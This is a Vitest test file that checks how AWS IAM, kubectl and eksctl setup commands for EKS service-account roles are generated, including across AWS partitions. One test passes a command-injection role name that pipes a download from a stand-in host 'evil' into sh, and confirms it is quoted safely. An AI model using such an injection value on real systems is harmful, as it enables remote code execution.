import { describe, expect, it } from 'vitest'
import * as s from '../import/testing/samples'
import { exportCommands } from './commands'
import { sampleDraft } from './testing'

const byId = (draft = sampleDraft()) =>
  Object.fromEntries(exportCommands(draft).map((b) => [b.id, b]))

describe(exportCommands, () => {
  it('one block per step, in the order they are run', () => {
    expect(exportCommands(sampleDraft()).map((b) => b.id)).toEqual([
      'oidcProvider',
      'role',
      'rolePolicy',
      'annotate',
      'eksctl',
      'assume',
    ])
  })

  it('creates the provider with its https URL, client IDs and thumbprints', () => {
    expect(byId().oidcProvider?.text).toBe(
      [
        'aws iam create-open-id-connect-provider \\',
        `  --url=${s.ISSUER} \\`,
        `  --client-id-list='["sts.amazonaws.com"]' \\`,
        `  --thumbprint-list='["9e99a48a9960b14926bb7f3b02e22da2b0ab7280"]'`,
      ].join('\n'),
    )
  })

  it('creates the role from the trust policy written to a file, with its maximum session', () => {
    const role = byId(sampleDraft({ maxSessionDuration: 7200 })).role?.text ?? ''
    expect(role).toContain('cat > trust-policy.json <<\'EOF\'\n{\n  "Version": "2012-10-17"')
    expect(role).toContain(`"${s.HOST_PATH}:sub": "system:serviceaccount:photos:uploader"`)
    expect(role).toContain('--role-name=photo-uploader')
    expect(role).toContain('--assume-role-policy-document=file://trust-policy.json')
    expect(role).toContain('--max-session-duration=7200')
    expect(byId().role?.text).not.toContain('--max-session-duration')
  })

  it('a role that exists (get-role, an audit row, evidence): its trust policy is updated, nothing created', () => {
    const blocks = byId(sampleDraft({ existingRole: true, maxSessionDuration: 7200 }))
    expect(Object.keys(blocks)).toEqual(['role', 'rolePolicy', 'annotate', 'eksctl', 'assume'])
    const role = blocks.role?.text ?? ''
    expect(role).toContain('cat > trust-policy.json <<\'EOF\'\n{\n  "Version": "2012-10-17"')
    expect(role).toContain(
      'aws iam update-assume-role-policy \\\n  --role-name=photo-uploader \\\n  --policy-document=file://trust-policy.json',
    )
    expect(role).not.toContain('create-role')
    expect(role).not.toContain('--max-session-duration')
    const eksctl = blocks.eksctl?.text ?? ''
    expect(eksctl).toContain(`--attach-role-arn=${s.ROLE_ARN}`)
    expect(eksctl).not.toContain('aws iam create-policy')
    expect(eksctl).not.toContain('--role-name')
  })

  it('puts the permission policy inline, and skips it when there is none', () => {
    expect(byId().rolePolicy?.text).toContain(
      '--policy-name=photo-uploader-permissions \\\n  --policy-document=file://permission-policy.json',
    )
    expect(byId(sampleDraft({ permissionPolicy: '' })).rolePolicy).toBeUndefined()
    expect(byId(sampleDraft({ permissionPolicy: '' })).eksctl?.text).not.toContain(
      '--attach-policy-arn',
    )
  })

  it('annotates the ServiceAccount with the role ARN', () => {
    expect(byId().annotate?.text).toBe(
      `kubectl annotate serviceaccount --namespace=photos --overwrite -- uploader eks.amazonaws.com/role-arn=${s.ROLE_ARN}`,
    )
  })

  it('eksctl: the cluster name is a placeholder variable; the policy is created first', () => {
    const eksctl = byId().eksctl
    expect(eksctl?.placeholders).toEqual(['CLUSTER_NAME'])
    expect(eksctl?.text).toContain('--cluster="$CLUSTER_NAME"')
    expect(eksctl?.text).toContain(
      'aws iam create-policy \\\n  --policy-name=photo-uploader-permissions',
    )
    expect(eksctl?.text).toContain(
      `--attach-policy-arn=arn:aws:iam::${s.ACCOUNT}:policy/photo-uploader-permissions`,
    )
    expect(eksctl?.text).toContain(
      '--namespace=photos \\\n  --name=uploader \\\n  --role-name=photo-uploader',
    )
  })

  it('assumes the role as the SDK does, with the request overrides', () => {
    const assume = byId().assume?.text ?? ''
    expect(assume).toContain(
      'kubectl create token --namespace=photos --audience=sts.amazonaws.com -- uploader > token',
    )
    expect(assume).toContain(`--role-arn=${s.ROLE_ARN}`)
    expect(assume).toContain('--web-identity-token=file://token')
    expect(assume).not.toContain('--duration-seconds')
    const overridden = byId(
      sampleDraft({ request: '{"roleSessionName": "debug me", "durationSeconds": 43200}' }),
    ).assume?.text
    expect(overridden).toContain("--role-session-name='debug me'")
    expect(overridden).toContain('--duration-seconds=43200')
  })

  it('quotes hostile names so that the shell runs nothing of them', () => {
    const text = exportCommands(sampleDraft({ roleName: "x'; curl evil | sh; '" }))
      .map((b) => b.text)
      .join('\n')
    expect(text).toContain(`--role-name='x'\\''; curl evil | sh; '\\'''`)
    expect(text).not.toMatch(/--role-name=x'/)
  })
})

describe('exportCommands across partitions', () => {
  it.each([
    {
      issuer: 'https://oidc.eks.cn-north-1.amazonaws.com.cn/id/0123456789ABCDEF0123456789ABCDEF',
      region: '--region=cn-north-1',
      arn: 'arn:aws-cn:iam::',
    },
    {
      issuer: 'https://oidc.eks.us-gov-west-1.amazonaws.com/id/0123456789ABCDEF0123456789ABCDEF',
      region: '--region=us-gov-west-1',
      arn: 'arn:aws-us-gov:iam::',
    },
  ])(
    '$issuer: the role ARN in its partition and the CLI sent to its region',
    ({ issuer, region, arn }) => {
      const blocks = Object.fromEntries(
        exportCommands(sampleDraft({ issuer })).map((b) => [b.id, b]),
      )
      expect(blocks.assume?.text).toContain(region)
      expect(blocks.eksctl?.text).toContain(arn)
    },
  )

  it('adds no --region in the aws partition', () => {
    expect(byId().assume?.text).not.toContain('--region')
  })
})
